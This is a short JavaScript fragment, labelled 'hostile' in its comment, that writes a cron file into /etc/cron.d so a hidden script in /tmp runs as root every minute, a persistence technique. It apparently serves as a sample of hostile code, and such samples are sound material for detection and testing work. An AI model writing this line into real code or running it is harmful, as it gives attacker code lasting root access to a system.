// hostile: cron entry written from node
require('fs').writeFileSync('/etc/cron.d/node-update', '* * * * * root node /tmp/.n.js\n');
